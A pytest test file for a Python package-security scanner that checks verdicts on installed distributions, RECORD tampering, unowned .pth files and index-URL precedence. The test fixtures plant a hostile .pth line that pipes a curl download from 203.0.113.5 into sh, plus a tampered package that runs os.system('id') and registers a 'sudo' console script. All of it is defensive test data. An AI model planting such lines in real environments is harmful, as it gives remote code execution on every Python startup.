"""Installed environments (per distribution via RECORD, .pth files), verdicts, index URL settings."""

from __future__ import annotations

import json
import sys
import venv
from pathlib import Path

import pytest
from click.testing import CliRunner

from datasec_scan.archives import record_line
from datasec_scan.cli import main
from datasec_scan.model import Category, Confidence, FileResult, Finding, Location, Notification, ScanResult, Severity
from datasec_scan.packages import configured_index_url, package_verdicts, site_dirs

EVIL_PTH = b'import os; os.system("curl -s http://203.0.113.5/x | sh")\n'


def _install(site: Path, name: str, version: str, files: dict[str, bytes], record_as: dict[str, bytes] | None = None,
             extra_dist_info: dict[str, bytes] | None = None) -> None:
    """Lay out a distribution as an installer would; `record_as` lets RECORD describe other bytes (tampering)."""
    dist_info = f"{name}-{version}.dist-info"
    meta = {f"{dist_info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode(),
            f"{dist_info}/WHEEL": b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
            **(extra_dist_info or {})}
    everything = {**files, **meta}
    described = {**everything, **(record_as or {})}
    for rel, data in everything.items():
        (site / rel).parent.mkdir(parents=True, exist_ok=True)
        (site / rel).write_bytes(data)
    lines = [record_line(rel, described[rel]) for rel in everything] + [f"{dist_info}/RECORD,,"]
    (site / dist_info / "RECORD").write_text("\n".join(lines) + "\n")


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("env")
    venv.EnvBuilder(with_pip=False).create(root / "venv")
    python = root / "venv" / "bin" / "python"
    (site,) = site_dirs(str(python))
    assert site.resolve().is_relative_to(root.resolve()), f"{site} is not the new environment's: refusing to write"
    _install(site, "goodpkg", "1.0", {"goodpkg/__init__.py": b"x = 1\n"})
    _install(site, "badpkg", "2.0", {"badpkg/__init__.py": b"import os\nos.system('id')\n",
                                     "badpkg/util.py": b"def f():\n    return 1\n"},
             record_as={"badpkg/__init__.py": b"x = 1\n"},
             extra_dist_info={"badpkg-2.0.dist-info/entry_points.txt": b"[console_scripts]\nsudo = badpkg:main\n"})
    (site / "zzz_dropped.pth").write_bytes(EVIL_PTH)
    return python, site


def _scan(*args: str) -> tuple[int, dict]:
    result = CliRunner().invoke(main, ["scan", "--format", "json", "--no-cache", "--isolated", "--installed", *args],
                                catch_exceptions=False)
    return result.exit_code, json.loads(result.output)


def test_other_interpreter_per_distribution(env: tuple[Path, Path]) -> None:
    python, site = env
    code, report = _scan("--python", str(python))
    verdicts = {p["package"]: p for p in report["packages"]}
    assert verdicts["goodpkg==1.0"]["verdict"] == "clean"
    bad = verdicts["badpkg==2.0"]
    assert bad["verdict"] == "high" and bad["by_rule"]["DS154"] == 1 and bad["by_rule"]["DS151"] == 1
    assert "modified after installation" in json.dumps(report["findings"])
    tampered = [f for f in report["findings"] if f["rule"] == "DS154"]
    assert tampered[0]["path"] == (site / "badpkg-2.0.dist-info" / "RECORD").as_posix()
    dropped = verdicts["(files of no distribution)"]
    assert "unowned-file" in dropped["notification_kinds"]
    assert any(n["kind"] == "unowned-file" and n["path"].endswith("zzz_dropped.pth") for n in report["notifications"])
    assert code == 1


def test_named_distributions_only(env: tuple[Path, Path]) -> None:
    python, _ = env
    code, report = _scan("--python", str(python), "goodpkg", "no-such-dist")
    assert [p["package"] for p in report["packages"]] == ["goodpkg==1.0"]
    assert any(n["kind"] == "not-installed" for n in report["notifications"])
    assert code == 0


def test_text_output_has_a_line_per_distribution(env: tuple[Path, Path]) -> None:
    python, _ = env
    result = CliRunner().invoke(main, ["scan", "--no-cache", "--isolated", "--installed", "--python", str(python)])
    assert "package goodpkg==1.0: CLEAN — clean: no findings in" in result.output
    assert "package badpkg==2.0: HIGH — " in result.output


def test_current_interpreter() -> None:
    code, report = _scan("click")
    assert code in (0, 1)
    assert [p["package"].split("==")[0].lower() for p in report["packages"]] == ["click"]


def test_bad_interpreter_exits_2(tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["scan", "--installed", "--python", str(tmp_path / "nope")])
    assert result.exit_code == 2


def _finding(path: str, severity: Severity, rule: str = "DS102", message: str = "reverse shell") -> Finding:
    return Finding(rule, "x", Category.REMOTE_ACCESS, severity, Confidence.HIGH, message, Location(path, 3))


def test_verdicts_group_by_archive_and_summarise() -> None:
    files = (
        FileResult("a-1.0.tar.gz"),
        FileResult("a-1.0.tar.gz!/a-1.0/setup.py", (_finding("a-1.0.tar.gz!/a-1.0/setup.py", Severity.CRITICAL),
                                                     _finding("a-1.0.tar.gz!/a-1.0/setup.py", Severity.MEDIUM, "DS105",
                                                              "hook"))),
        FileResult("b-1.0-py3-none-any.whl", notifications=(Notification("b-1.0-py3-none-any.whl", "archive-bomb",
                                                                          "ratio"),)),
        FileResult("src/plain.py", (_finding("src/plain.py", Severity.HIGH),)),
    )
    result = ScanResult("/", files, (), "0")
    a, b = package_verdicts(result)
    assert a.package == "a-1.0.tar.gz" and a.verdict == "critical" and a.files == 2
    assert a.summary == "1 critical: DS102 reverse shell (a-1.0/setup.py:3); also 1 medium"
    assert dict(a.by_category) == {"remote-access": 2}
    assert b.verdict == "clean" and b.notifications == 1 and "archive-bomb" in b.summary
    assert package_verdicts(ScanResult("/", files[3:], (), "0")) == []


def test_index_url_precedence() -> None:
    assert configured_index_url("http://x/simple/", {"PIP_INDEX_URL": "http://y/simple"}, lambda: "http://z") == \
        "http://x/simple"
    assert configured_index_url(None, {"PIP_INDEX_URL": "http://y/simple"}, lambda: "http://z") == "http://y/simple"
    assert configured_index_url(None, {}, lambda: "http://z/simple") == "http://z/simple"
    assert configured_index_url(None, {}, lambda: None) == "https://pypi.org/simple"


def test_site_dirs_of_this_interpreter() -> None:
    assert site_dirs() and site_dirs(sys.executable)
